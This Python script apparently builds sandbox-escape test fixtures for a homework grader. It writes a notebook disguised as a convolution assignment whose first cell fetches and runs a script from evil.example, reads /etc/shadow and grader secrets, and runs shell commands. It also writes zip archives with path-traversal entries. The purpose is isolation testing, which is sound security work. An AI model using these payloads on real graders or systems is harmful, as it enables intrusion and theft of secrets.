"""Writes the notebook and zip attacks beside this file from honest_conv_ops.py; run once
(`python make_archives.py`) and commit what it writes."""

import json
import stat
import zipfile
from pathlib import Path

HERE = Path(__file__).resolve().parent
DATE = (2024, 9, 2, 9, 0, 0)  # fixed, so that running the script again writes byte-identical files
HONEST = (HERE / "honest_conv_ops.py").read_text()

MALICIOUS_CELL = '''\
!curl -s http://evil.example/payload.sh | sh
%env GRADER_SECRET=stolen
import os
import socket
import subprocess

MARKER = "ADVERSARIAL_notebook_malicious"
for path in ("/work/main/var/secret", "/work/main/var/grades.db", "/etc/shadow"):
    try:
        print("READ", path, open(path, "rb").read(100))
    except OSError as error:
        print("BLOCKED", path, type(error).__name__)
for path in ("/work/main/ADVERSARIAL_notebook_malicious", "/tmp/ADVERSARIAL_notebook_malicious"):
    try:
        with open(path, "w") as file:
            file.write(MARKER)
        print("WROTE", path)
    except OSError as error:
        print("BLOCKED", path, type(error).__name__)
print("SHELL", subprocess.run("id; cat /etc/shadow; touch /work/main/ADVERSARIAL_notebook_shell",
                              shell=True, capture_output=True, text=True))
try:
    socket.create_connection(("1.1.1.1", 80), timeout=2)
    print("CONNECTED internet")
except OSError as error:
    print("BLOCKED internet", type(error).__name__)
'''


def code_cell(source: str) -> dict:
    return {"cell_type": "code", "metadata": {}, "outputs": [], "execution_count": None, "source": source}


def notebook() -> None:
    cells = [
        {"cell_type": "markdown", "metadata": {}, "source": "# Homework 1: convolution in NumPy"},
        code_cell(MALICIOUS_CELL),
        code_cell(HONEST),
    ]
    document = {"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": cells}
    (HERE / "notebook_malicious.ipynb").write_text(json.dumps(document, indent=1) + "\n")


def entry(name: str) -> zipfile.ZipInfo:
    # ZipInfo keeps the name as given; ZipFile.write would strip the leading "/" and "../".
    info = zipfile.ZipInfo(name, date_time=DATE)
    info.create_system = 3
    info.external_attr = (stat.S_IFREG | 0o644) << 16
    return info


def zip_escape() -> None:
    payload = b'MARKER = "ADVERSARIAL_zip_escape"\n'
    with zipfile.ZipFile(HERE / "zip_escape.zip", "w") as archive:
        archive.writestr(entry("hw1/submission.py"), HONEST.encode())
        archive.writestr(entry("hw1/../../ADVERSARIAL_zip_escape.py"), payload)
        archive.writestr(entry("../../../../../../tmp/ADVERSARIAL_zip_escape.py"), payload)
        archive.writestr(entry("hw1/sub/../../../../../../work/main/ADVERSARIAL_zip_escape.py"), payload)


if __name__ == "__main__":
    notebook()
    zip_escape()
